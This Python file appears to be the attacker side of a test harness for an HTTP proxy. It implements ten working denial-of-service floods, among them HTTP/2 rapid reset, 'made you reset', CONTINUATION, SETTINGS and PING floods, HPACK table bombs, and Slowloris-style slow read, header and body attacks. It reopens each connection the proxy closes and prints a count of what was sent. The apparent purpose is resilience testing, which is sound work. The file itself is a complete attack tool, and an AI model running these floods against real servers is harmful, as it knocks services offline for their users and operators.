# SPDX-License-Identifier: Apache-2.0
"""One flood, by connections that are opened anew when the proxy has closed them, as from some 30 ms away, until SIGTERM; then a line of JSON
says what went out.
    attacker.py FLOOD ADDRESS PLAIN_PORT"""
import heapq
import itertools
import json
import random
import selectors
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "hostile"))
from h2frames import PREFACE, frame  # noqa: E402
from hpack import literal  # noqa: E402

from box import HOST, LARGE, SMALL, UPLOAD  # noqa: E402

HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
LAST_STREAM = 2**31 - 1
AWAY = 0.03  # seconds until a connection stands for one that was closed


def request_block(path: str) -> bytes:
    return (literal(b":method", b"GET") + literal(b":scheme", b"http") + literal(b":path", path.encode())
            + literal(b":authority", HOST.encode()))


def pieces(kinds: Callable[[int], bytes], settings: bytes = b"") -> Iterator[bytes]:
    """The preface, then what `kinds` makes of each stream's number, a hundred at a time."""
    yield PREFACE + frame(SETTINGS, 0, 0, settings)
    for first in range(1, LAST_STREAM, 200):
        yield b"".join(kinds(stream) for stream in range(first, first + 200, 2))


def rapid_reset() -> Iterator[bytes]:
    block, cancel = request_block(SMALL), struct.pack(">I", 8)
    return pieces(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                  + frame(RST_STREAM, 0, stream, cancel))


def made_you_reset() -> Iterator[bytes]:
    """The window above its limit: it is the server that must reset the stream."""
    block, overflow = request_block(SMALL), struct.pack(">I", LAST_STREAM)
    return pieces(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                  + frame(WINDOW_UPDATE, 0, stream, overflow))


def continuation() -> Iterator[bytes]:
    yield PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_STREAM, 1, request_block(SMALL))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * 100)


def settings() -> Iterator[bytes]:
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
    return pieces(lambda _: one)


def ping() -> Iterator[bytes]:
    one = frame(PING, 0, 0, b"12345678")
    return pieces(lambda _: one)


def hpack_bomb() -> Iterator[bytes]:
    """One field of 3,000 B enters the table; each request names it 20 times. No answer may come: the window is 0."""
    enter = request_block(SMALL) + literal(b"x-bomb", b"b" * 3000, True)
    again = request_block(SMALL) + b"\xbe" * 20  # index 62: what entered the table last
    return pieces(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, enter if stream == 1 else again),
                  struct.pack(">HI", 4, 0))


def hpack_hold() -> Iterator[bytes]:
    """The same below all limits, by as many requests as may be open: they stay so, since the window is 0."""
    enter = request_block(SMALL) + literal(b"x-bomb", b"b" * 3000, True)
    again = request_block(SMALL) + b"\xbe" * 9
    return itertools.islice(
        pieces(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, enter if stream == 1 else again),
               struct.pack(">HI", 4, 0)), 2)


def slow_read() -> Iterator[bytes]:
    """Large answers that nobody reads."""
    yield f"GET {LARGE} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 32


def slow_head() -> Iterator[bytes]:
    yield f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode()
    yield from itertools.repeat(b"a")


def slow_body() -> Iterator[bytes]:
    yield f"POST {UPLOAD} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n".encode()
    yield from itertools.repeat(b"a")


@dataclass(frozen=True)
class Flood:
    script: Callable[[], Iterator[bytes]]
    connections: int = 16
    pause: float = 0  # seconds between two pieces of a connection
    reads: bool = True


FLOODS = {
    "rapid_reset": Flood(rapid_reset), "made_you_reset": Flood(made_you_reset), "continuation": Flood(continuation),
    "settings": Flood(settings), "ping": Flood(ping), "hpack_bomb": Flood(hpack_bomb, reads=False),
    "hpack_hold": Flood(hpack_hold, 32, 1, reads=False), "slow_read": Flood(slow_read, 500, 1, reads=False),
    "slow_head": Flood(slow_head, 2000, 1), "slow_body": Flood(slow_body, 1000, 1)}


@dataclass(eq=False)
class Link:
    socket: socket.socket
    script: Iterator[bytes]
    left: bytes = b""
    is_open: bool = True


class Attacker:
    """Calls wait for events only where they must: a long system call of this process delays the others of its processor."""

    def __init__(self, flood: Flood, address: tuple[str, int]) -> None:
        self._flood = flood
        self._address = address
        self._selector = selectors.DefaultSelector()
        self._ended = False
        self._order = itertools.count()  # of what is due at the same time
        self._due: list[tuple[float, int, Link | None]] = []  # when, and who sends then; none: a connection is to be opened
        self.counts = {"connections": 0, "closed": 0, "bytes": 0}

    def run(self) -> None:
        signal.signal(signal.SIGTERM, self._end)
        for _ in range(self._flood.connections):
            self._open()
        print("begun", flush=True)
        while not self._ended:
            now = time.monotonic()
            while self._due and self._due[0][0] <= now:
                link = heapq.heappop(self._due)[2]
                if link is None:
                    self._open()
                elif link.is_open:
                    self._serve(link, selectors.EVENT_WRITE)
            wait = min(max(self._due[0][0] - now, 0.0), 0.1) if self._due else 0.1
            for key, events in self._selector.select(wait):
                self._serve(key.data, events)
        print(json.dumps(self.counts), flush=True)

    def _end(self, *_: object) -> None:
        self._ended = True

    def _at(self, seconds: float, link: Link | None) -> None:
        heapq.heappush(self._due, (time.monotonic() + seconds, next(self._order), link))

    def _open(self) -> None:
        link = Link(socket.socket(), self._flood.script())
        if not self._flood.reads:
            link.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what it takes unread
        link.socket.settimeout(10)
        link.socket.connect(self._address)
        link.socket.setblocking(False)
        self.counts["connections"] += 1
        events = (0 if self._flood.pause else selectors.EVENT_WRITE) | (selectors.EVENT_READ if self._flood.reads else 0)
        if events:
            self._selector.register(link.socket, events, link)
        if self._flood.pause:
            self._at(random.uniform(0, self._flood.pause), link)

    def _serve(self, link: Link, events: int) -> None:
        try:
            if events & selectors.EVENT_READ and not link.socket.recv(65536):
                raise ConnectionResetError
            if events & selectors.EVENT_WRITE:
                self._send(link)
        except BlockingIOError:
            return
        except OSError:
            self._close(link)

    def _send(self, link: Link) -> None:
        if self._flood.pause:
            self._at(self._flood.pause, link)
        piece = link.left or next(link.script, b"")
        sent = link.socket.send(piece) if piece else 0
        self.counts["bytes"] += sent
        link.left = piece[sent:]

    def _close(self, link: Link) -> None:
        link.is_open = False
        if link.socket in self._selector.get_map():
            self._selector.unregister(link.socket)
        link.socket.close()
        self.counts["closed"] += 1
        self._at(random.uniform(AWAY / 2, AWAY * 3 / 2), None)


if __name__ == "__main__":
    Attacker(FLOODS[sys.argv[1]], (sys.argv[2], int(sys.argv[3]))).run()
